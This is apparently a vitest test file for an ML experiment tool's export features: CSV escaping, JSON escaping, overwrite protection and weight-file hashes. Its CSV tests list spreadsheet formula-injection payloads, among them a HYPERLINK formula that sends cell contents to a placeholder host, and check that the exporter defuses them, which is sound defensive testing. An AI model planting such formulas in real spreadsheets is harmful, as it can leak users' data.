import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import type { Result, RunResult } from '../worker/contract/result.ts';
import { readNpz } from '../worker/data/npz.ts';
import { weightsErrors } from '../worker/data/regular-file.ts';
import { readSafetensors } from '../worker/data/safetensors.ts';
import { textCell } from '../worker/contract/csv.ts';
import { csvColumns, csvLines } from '../worker/report/csv.ts';
import { resultJson } from '../worker/report/result-json.ts';
import { weightsHash } from '../worker/training/weights-hash.ts';
import { contents, epochLab, newDesk, writeJson } from './fixtures/terminal/epoch-lab.ts';
import { resultIn } from './fixtures/terminal/result.ts';
import { tinyDigits } from './fixtures/training/tiny-digits.ts';
import { tinyExperiment } from './fixtures/training/tiny-experiment.ts';

/** The cells of CSV text, by the grammar of RFC 4180 with LF for CRLF. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let at = 0;
  while (at < text.length) {
    let cell = '';
    if (text[at] === '"') {
      for (at++; text[at] !== '"' || text[at + 1] === '"'; at++) {
        if (text[at] === '"') at++;
        cell += text.charAt(at);
      }
      at++;
    } else {
      while (at < text.length && text[at] !== ',' && text[at] !== '\n') cell += text.charAt(at++);
    }
    row.push(cell);
    if (text[at] === '\n') {
      rows.push(row);
      row = [];
    }
    at++;
  }
  expect(row, 'the last line has its end').toEqual([]);
  return rows;
}

const hash = '0'.repeat(64);
const run: RunResult = {
  id: 7,
  seed: 3,
  outcome: 'diverged',
  reason: 'The weights of layer 1 are no longer finite after epoch 1.',
  device: { asked: 'cpu', got: 'cpu', detail: '' },
  initial: null,
  epochs: [
    {
      epoch: 1,
      step: 20,
      seconds: 0.5,
      stepsPerSecond: 40,
      train: { cost: NaN, accuracy: 0.1 },
      validation: { cost: -0.5, accuracy: 0.25 },
      layers: [{ gradientNorm: Infinity, weightNorm: -Infinity, saturated: 0, dead: 1 }],
      weightsHash: hash,
    },
  ],
  test: null,
};

const result = (...names: string[]): Result => ({
  format: 'epoch-lab/result@1',
  id: 1,
  createdAt: '2026-11-21T09:00:00.000Z',
  versions: { epochLab: '0.1.0', node: '24.0.0', v8: '13' },
  experiment: tinyExperiment(),
  data: tinyDigits().fingerprint,
  arms: names.map((name) => ({ name, runs: [run] })),
  comparison: null,
  why: 'Nothing has ended.',
});

const csv = (...names: string[]): string => [...csvLines(result(...names))].join('');

describe('CSV', () => {
  test('has one value per line, with all digits, and words for what is not finite', () => {
    expect(csv('a')).toBe(
      [
        'run,arm,seed,epoch,split,metric,value',
        '7,a,3,1,train,cost,NaN',
        '7,a,3,1,train,accuracy,0.1',
        '7,a,3,1,validation,cost,-0.5',
        '7,a,3,1,validation,accuracy,0.25',
        '7,a,3,1,,step,20',
        '7,a,3,1,,seconds,0.5',
        '7,a,3,1,,stepsPerSecond,40',
        '7,a,3,1,train,layer1.gradientNorm,Infinity',
        '7,a,3,1,train,layer1.weightNorm,-Infinity',
        '7,a,3,1,train,layer1.saturated,0',
        '7,a,3,1,train,layer1.dead,1',
        '',
      ].join('\n'),
    );
  });

  test.each([
    '=HYPERLINK("http://x/?"&A1)',
    '+1',
    '-1',
    '@SUM(1)',
    '\t=1',
    '\rx',
    ' =1',
    '\u00a0=1',
    '\ufeff=1',
    'ok\n=1',
    'ok\r\n+1',
    'ok\r-1',
    '＝1',
  ])('keeps a spreadsheet from running %j', (name) => {
    expect(parseCsv(`${textCell(name)}\n`)).toEqual([[`'${name}`]]);
  });

  test.each(['old: N(0, 1)', 'a-1', '1=1', 'x@y', "'quoted'", 'say "hi"', 'a;b', '', 'é', '3 − 2'])(
    'leaves %j as it is',
    (name) => {
      expect(parseCsv(`${textCell(name)},\n`)).toEqual([[name, '']]);
    },
  );

  test('comes back from a parser as it went in, whatever arms are called', () => {
    const text = fc.string({
      unit: fc.oneof(
        fc.constantFrom('=', '+', '-', '@', ',', ';', '"', "'", '\n', '\r', '\t', ' ', 'a'),
        fc.string({ minLength: 1, maxLength: 1 }),
      ),
    });
    fc.assert(
      fc.property(fc.array(text, { minLength: 1, maxLength: 4 }), (names) => {
        const [header, ...rows] = parseCsv(csv(...names));
        expect(header).toEqual(csvColumns);
        expect(rows).toHaveLength(11 * names.length);
        names.forEach((name, i) => {
          const cells = rows.slice(11 * i, 11 * (i + 1)).map((row) => row[1]!);
          for (const cell of cells) {
            expect([name, `'${name}`]).toContain(cell);
            expect(cell).not.toMatch(/^\s*[=+\-@]/);
          }
        });
      }),
    );
  });
});

describe('JSON', () => {
  test('holds the words for what is not finite, and comes back as it was', () => {
    const text = resultJson(result('a'));
    expect(text).toContain('"cost":"NaN"');
    expect(text).toContain('"gradientNorm":"Infinity","weightNorm":"-Infinity"');
    expect(resultIn(text)).toEqual(result('a'));
  });

  test('writes control and direction characters of text as escapes, which mean the same', () => {
    const name = '\u202e\u0007\u2028x';
    const text = resultJson(result(name));
    expect(text).not.toMatch(/[\u202e\u0007\u2028]/);
    expect(resultIn(text).arms[0]!.name).toBe(name);
  });
});

describe('the command export', () => {
  test('writes the values that were measured, whole files only, and never over another without being told', async () => {
    const desk = await newDesk();
    const arms = [{ name: '=evil' }, { name: 'calm', changes: { 'schedule.eta': 0.1 } }];
    const file = await writeJson(desk, 'a.json', tinyExperiment({ arms, seeds: [1, 2] }));
    expect((await epochLab(desk, ['run', file, '-q'])).code).toBe(0);
    const { out: json } = await epochLab(desk, ['export', '1', '--json']);
    const { out } = await epochLab(desk, ['export', '1', '--csv']);
    const [, ...rows] = parseCsv(out);
    const stored = resultIn(json);
    for (const [i, { runs }] of stored.arms.entries()) {
      for (const { id, seed, epochs, test: tested } of runs) {
        const of = rows.filter((row) => row[0] === String(id));
        expect(new Set(of.map((row) => `${row[1]} ${row[2]}`))).toEqual(new Set([`${["'=evil", 'calm'][i]} ${seed}`]));
        const value = (epoch: number, split: string, metric: string): number =>
          Number(of.find((row) => row[3] === String(epoch) && row[4] === split && row[5] === metric)![6]);
        for (const { epoch, train, validation, layers } of epochs) {
          expect(value(epoch, 'train', 'cost')).toBe(train.cost);
          expect(value(epoch, 'validation', 'accuracy')).toBe(validation!.accuracy);
          expect(value(epoch, 'train', 'layer2.weightNorm')).toBe(layers[1]!.weightNorm);
        }
        expect(value(3, 'test', 'accuracy')).toBe(tested!.accuracy);
      }
    }

    expect((await epochLab(desk, ['export', '1', '--csv', '--out', 'a.csv'])).code).toBe(0);
    expect(await readFile(join(desk.folder, 'a.csv'), 'utf8')).toBe(out);
    await writeFile(join(desk.folder, 'b.json'), 'mine');
    expect((await epochLab(desk, ['export', '1', '--json', '--out', 'b.json'])).code).toBe(73);
    expect(await readFile(join(desk.folder, 'b.json'), 'utf8')).toBe('mine');
    expect((await epochLab(desk, ['export', '1', '--json', '--out', 'b.json', '--force'])).code).toBe(0);
    expect(await readFile(join(desk.folder, 'b.json'), 'utf8')).toBe(json);
    expect(Object.keys(await contents(desk)).filter((path) => path.includes('tmp'))).toEqual([]);
  });

  test('says beside the values which runs did not come to their end', async () => {
    const desk = await newDesk();
    const wild = tinyExperiment({
      'recipe.network': { hidden: [{ units: 12, activation: { kind: 'relu' } }], output: { kind: 'identity' } },
      'recipe.cost': { kind: 'quadratic' },
      'recipe.schedule.eta': 1e6,
    });
    await epochLab(desk, ['run', await writeJson(desk, 'a.json', wild), '-q']);
    const { out, err } = await epochLab(desk, ['export', '1', '--csv']);
    expect(out).toMatch(/,train,cost,NaN$/m);
    expect(err).toMatch(/^Note: run 1 \(one, seed 1\) is diverged: The weights of layer 1 are no longer finite/);
  });

  test('writes weights, last and best, that have the hash of their epoch', async () => {
    const desk = await newDesk();
    // The rate is so high that the last epoch is not the best.
    const restless = tinyExperiment({ 'recipe.protocol.epochs': 12, 'recipe.schedule.eta': 40 });
    await epochLab(desk, ['run', await writeJson(desk, 'a.json', restless), '-q']);
    const { epochs } = resultIn((await epochLab(desk, ['compare', '1', '--json'])).out).arms[0]!.runs[0]!;
    const best = epochs.toSorted((a, b) => b.validation!.accuracy - a.validation!.accuracy || a.epoch - b.epoch)[0]!;
    expect(best.epoch).toBeLessThan(12);

    const last = await epochLab(desk, ['export', '--weights', 'last.npz', '--run', '1']);
    expect(last.out).toMatch(/^Wrote the weights of run 1 after epoch 12 \(last\) to .*last\.npz\.$/m);
    const npz = await readNpz(join(desk.folder, 'last.npz'), weightsErrors);
    expect([...npz].map(([name, { shape }]) => [name, ...shape])).toEqual([
      ['W1', 36, 12],
      ['b1', 12],
      ['W2', 12, 10],
      ['b2', 10],
    ]);
    expect(weightsHash([...npz.values()].map(({ data }) => data as Float32Array))).toBe(epochs.at(-1)!.weightsHash);

    await epochLab(desk, ['export', '--weights', 'best.safetensors', '--run', '1', '--best']);
    const { tensors, metadata } = await readSafetensors(join(desk.folder, 'best.safetensors'));
    expect(weightsHash([...tensors.values()].map(({ data }) => data))).toBe(best.weightsHash);
    expect(metadata).toMatchObject({ experiment: 'Tiny', arm: 'one', seed: '1', epoch: String(best.epoch) });
  });
});
